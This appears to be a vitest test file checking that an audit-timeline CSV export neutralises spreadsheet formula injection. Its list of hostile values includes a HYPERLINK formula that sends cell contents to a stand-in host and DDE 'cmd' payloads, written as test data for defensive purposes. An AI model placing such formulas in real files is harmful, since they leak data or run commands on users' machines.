import { describe, expect, it } from 'vitest';
import { timelineCsv } from '../../domain/audit/exports.js';
import { neutraliseFormula } from '../../lib/spreadsheet-safe.js';

/** The fields of a CSV line (RFC 4180 quoting, as domain/audit/exports.ts writes it). */
function fields(line: string): string[] {
  const out: string[] = [];
  let cur = '';
  let quoted = false;
  for (let i = 0; i < line.length; i++) {
    const c = line[i];
    if (quoted) {
      if (c === '"' && line[i + 1] === '"') {
        cur += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cur += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      out.push(cur);
      cur = '';
    } else cur += c;
  }
  out.push(cur);
  return out;
}

/**
 * CSV injection: a step name, actor or variable value typed by someone becomes a cell of the auditor's
 * CSV timeline; a spreadsheet would run it as a formula if it started with = + - @ (or a tab / CR).
 */
describe('CSV export: formulas are neutralised', () => {
  const HOSTILE = [
    '=HYPERLINK("http://x.example/?"&A1,"bấm")',
    '+1+cmd|" /C calc"!A0',
    '-1+cmd|" /C calc"!A0',
    '-2+3',
    '@SUM(1+1)*cmd|x',
    '\t=1+1',
    '\r=1+1',
    '  =1+1',
    '＝1+1',
  ];

  it('every hostile value in a step name reaches the CSV with a leading apostrophe; plain numbers and text stay as they are', () => {
    const at = '2026-03-01T08:00:00.000Z';
    const el = (name: string, i: number) => ({
      start: at.replace('00.000', String(i).padStart(2, '0') + '.000'),
      end: null,
      elementId: `E${i}`,
      name,
      type: 'userTask',
      state: 'completed',
      durationMs: -5,
      completedBy: 'can-bo',
      assignee: null,
      dueDate: null,
      late: false,
    });
    const csv = timelineCsv({
      elements: [...HOSTILE, 'Thẩm định hồ sơ', '-12', '-3.5'].map(el),
      calledSteps: [],
      variables: [],
      events: [],
      incidents: [],
    } as never);
    const lines = csv
      .replace(/^\uFEFF/, '')
      .split('\r\n')
      .filter(Boolean);
    // A CR inside a quoted field would split a line: parse the whole text instead where needed.
    const names = lines.slice(1).map((l) => fields(l)[3] ?? '');
    for (const bad of HOSTILE.filter((h) => !h.includes('\r'))) expect(names).toContain(`'${bad}`);
    expect(csv).toContain(`"'\r=1+1"`);
    expect(names).toContain('Thẩm định hồ sơ');
    expect(names).toContain('-12');
    expect(names).toContain('-3.5');
    // The duration column holds a number, left as one.
    expect(lines.slice(1).every((l) => !l.includes(",'-5,"))).toBe(true);
    // No cell of the file starts with a formula character once parsed.
    for (const l of lines.slice(1)) for (const f of fields(l)) if (!/^-?\d+(\.\d+)?$/.test(f)) expect(f).not.toMatch(/^[\s]*[=+\-@＝]/);
  });

  it('the guard itself: what it changes and what it leaves', () => {
    for (const bad of HOSTILE) expect(neutraliseFormula(bad)).toBe(`'${bad}`);
    for (const ok of ['-12', '-3,5', '42', 'Nguyễn Văn A', 'a=b', '2026-03-01', 'email@example.vn']) expect(neutraliseFormula(ok)).toBe(ok);
  });
});
